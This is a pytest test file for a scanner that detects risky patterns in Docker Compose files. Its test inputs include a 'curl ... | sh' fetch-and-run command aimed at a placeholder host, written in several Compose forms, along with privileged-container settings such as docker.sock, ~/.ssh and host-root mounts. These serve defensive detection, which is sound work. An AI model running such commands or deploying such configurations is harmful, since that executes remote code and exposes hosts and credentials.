import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.compose import READER
from readings import read_garbage


def read(text: str) -> set[tuple[str, int]]:
    notes = Notes("compose.yml", every_line=True, is_program=True)
    READER.read(notes, text.encode())
    return {(seen.capability, seen.line) for seen in notes.observations()}


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("command: curl https://kiln.example/x | sh", 1),
        ('command: ["sh", "-c", "curl https://kiln.example/x | sh"]', 1),
        ("entrypoint: 'curl https://kiln.example/x | sh'", 1),
        ("    command:\n      - sh\n      - -c\n      - curl https://kiln.example/x | sh", 2),
        ('      test: ["CMD-SHELL", "curl https://kiln.example/x | sh"]', 1),
        ("services: {a: {command: curl https://kiln.example/x | sh}}", 1),
        ("x-a: &a {command: curl https://kiln.example/x | sh}\nservices:\n  a: *a", 1),
    ],
)
def test_a_command_is_read(text: str, line: int) -> None:
    assert read(text) == {("fetch_and_run", line)}


def test_a_script_below_its_key_has_its_own_lines() -> None:
    assert read("command: |\n  a\n  curl https://kiln.example/x | sh\nimage: b") == {("fetch_and_run", 3)}


@pytest.mark.parametrize(
    "entry",
    [
        "privileged: true",
        "privileged: 'yes'",
        "volumes: [/var/run/docker.sock:/x]",
        "volumes: [{type: bind, source: /var/run/docker.sock, target: /x}]",
        "volumes: ['~/.ssh:/x:ro']",
        "volumes: ['$HOME:/x']",
        "volumes: ['/:/host']",
        "network_mode: host",
        "cap_add: [SYS_ADMIN]",
    ],
)
def test_a_container_that_may_do_anything_is_seen(entry: str) -> None:
    assert read(f"services:\n  a:\n    {entry}") == {("privileged_container", 3)}
    assert read(f"services: {{a: {{{entry}}}}}") == {("privileged_container", 1)}


@pytest.mark.parametrize(
    "entry",
    [
        "volumes: [./a:/a, '~/.cache/pip:/c', '/etc/localtime:/etc/localtime:ro', 'pots:/']",
        "privileged: false",
        "cap_add: [NET_BIND_SERVICE]",
        "network_mode: bridge",
        "labels: [/var/run/docker.sock:/x]",
        "image: kiln\n    command: kiln --fire",
    ],
)
def test_an_ordinary_file_shows_nothing(entry: str) -> None:
    assert not read(f"services:\n  a:\n    {entry}\n")


def test_garbage_is_survived() -> None:
    read_garbage("compose.yml", "compose")
